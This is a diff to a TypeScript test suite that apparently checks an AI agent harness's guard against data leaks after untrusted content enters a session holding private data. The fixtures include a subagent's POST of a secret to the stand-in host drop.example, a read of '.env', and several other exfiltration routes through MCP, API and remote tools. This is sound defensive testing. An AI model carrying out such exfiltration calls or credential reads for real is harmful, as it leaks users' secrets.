@@ -1,7 +1,7 @@
 /**
  * Every way in times every way out. A way in brings words of a stranger into a session that has read something private; after it
- * no way out goes anywhere that nobody named without a question, and what is refused does not arrive. A layer of tools or a way
- * of making a session that is not listed here fails the last test until somebody lists it.
+ * no way out goes anywhere that nobody named without a question, and what is refused does not arrive. A layer of tools, a kind of
+ * resource or a tool that reaches out and is not listed here fails the last tests until somebody lists it.
  */
 import { writeFileSync } from "node:fs";
 import { join } from "node:path";
@@ -44,11 +44,23 @@ const WAYS_IN: readonly WayIn[] = [
   {
     name: "an MCP server's answer",
     layer: "mcp",
-    enter: by("mcp__tickets__comment", { ticket: "T-1" }),
+    enter: by("mcp__tickets__issue", { number: 7 }),
   },
-  { name: "an API's answer", layer: "openapi", enter: by("pets_create", { owner: "ada" }) },
+  { name: "an API's answer", layer: "openapi", enter: by("openapi__pets__listPets", {}) },
+  {
+    name: "what a command printed",
+    enter: by("bash", { command: "curl -s http://docs.example/" }),
+  },
+  {
+    name: "a sidecar",
+    enter: async (played) => {
+      const page = await played.call("web_fetch", { url: "http://docs.example/long" }, "once");
+      const { output_path } = page.metadata;
+      return by("read", { path: output_path ?? "" })(played);
+    },
+  },
   { name: "a tool that runs elsewhere", enter: by("peer_run", { task: "look" }) },
-  { name: "a memory", enter: by("old_notes", {}) },
+  { name: "a memory", enter: by("memory", { action: "read", key: "plan" }) },
   {
     name: "a child's result",
     enter: async (played) => {
@@ -83,6 +95,8 @@ interface WayOut {
   readonly by: keyof typeof KINDS;
   /** Where it would go to cannot be read: with a sandbox it runs without a network. */
   readonly mayRun?: boolean;
+  /** A subagent does it. */
+  readonly inChild?: boolean;
   readonly args: JsonObject;
 }
 
@@ -109,8 +123,20 @@ const WAYS_OUT: readonly WayOut[] = [
     args: { ticket: "T-9", body: "swordfish" },
   },
   {
-    ...{ name: "an API call", by: "named", tool: "pets_create", layer: "openapi" },
-    args: { owner: "thief", name: "swordfish" },
+    ...{ name: "an API call", by: "net.fetch", tool: "openapi__pets__createPet", layer: "openapi" },
+    args: { body: { owner: "thief", name: "swordfish" } },
+  },
+  {
+    ...{ name: "an API call that only reads", by: "net.fetch", tool: "openapi__pets__listPets" },
+    args: {},
+  },
+  {
+    ...{ name: "words in a server's plain read", by: "named", tool: "mcp__tickets__issue" },
+    args: { words: "swordfish" },
+  },
+  {
+    ...{ name: "a subagent's request", by: "net.fetch", tool: "http_request", inChild: true },
+    args: { method: "POST", url: "http://drop.example/", body: "swordfish" },
   },
   {
     ...{ name: "a tool that runs elsewhere", by: "named", tool: "peer_run" },
@@ -138,20 +164,22 @@ describe("what a stranger wrote, in a session that knows something private", () 
       expect(new Set(played.session.labels().map(({ label }) => label))).toEqual(
         new Set(["private", "untrusted"]),
       );
-      for (const { name, tool, args, mayRun } of WAYS_OUT) {
-        const [before, asked] = [world.arrived.length, played.flowQuestions().length];
-        const result = await played.call(tool, args);
+      const child = world.open({ parent: played.session });
+      for (const { name, tool, args, mayRun, inChild } of WAYS_OUT) {
+        const asker = inChild === true ? child : played;
+        const [before, asked] = [world.arrived.length, asker.flowQuestions().length];
+        const result = await asker.call(tool, args);
         const said = result.type === "error" ? result.error_text : "ran";
         expect([name, world.arrived.slice(before)]).toEqual([name, []]);
         if (mayRun) continue;
         expect([name, said]).toEqual([name, "The user rejected this call."]);
-        expect([name, played.flowQuestions().length - asked]).toEqual([name, 1]);
+        expect([name, asker.flowQuestions().length - asked]).toEqual([name, 1]);
       }
     });
 
   it("is asked about by nothing before it was read", async () => {
     const played = world.open();
-    for (const { tool, args } of WAYS_OUT.slice(0, 6)) await played.call(tool, args, "once");
+    for (const { tool, args } of WAYS_OUT.slice(0, 9)) await played.call(tool, args, "once");
     await played.call("read", { path: ".env" }, "once");
     expect(played.flowQuestions()).toEqual([]);
   });
@@ -167,5 +195,21 @@ describe("what a stranger wrote, in a session that knows something private", () 
     // Reading a file or a variable carries nothing out.
     const carrying = Object.keys(KINDS).filter((kind) => kind !== "fs.read" && kind !== "env");
     expect([...new Set(WAYS_OUT.map((way) => way.by))].sort()).toEqual(carrying.sort());
+  });
+
+  it("is listed here for every tool that reaches out by itself", () => {
+    // Each reaches what its way out reaches, through the same door.
+    const ALIKE: Readonly<Record<string, string>> = {
+      ...{ web_search: "web_fetch", git: "bash", test_runner: "bash" },
+      ...{ task: "a subagent's own calls", skill: "text that a person trusted" },
+    };
+    const out = new Set([...WAYS_OUT.map(({ tool }) => tool), ...Object.keys(ALIKE)]);
+    const reaching = world.toolplane.kernel.tools().filter(({ tool }) => {
+      const { net, shell } = tool.requires;
+      return (
+        net !== undefined || shell !== undefined || tool.composite || tool.executor !== "local"
+      );
+    });
+    expect(reaching.map(({ tool }) => tool.id).filter((id) => !out.has(id))).toEqual([]);
   });
 });
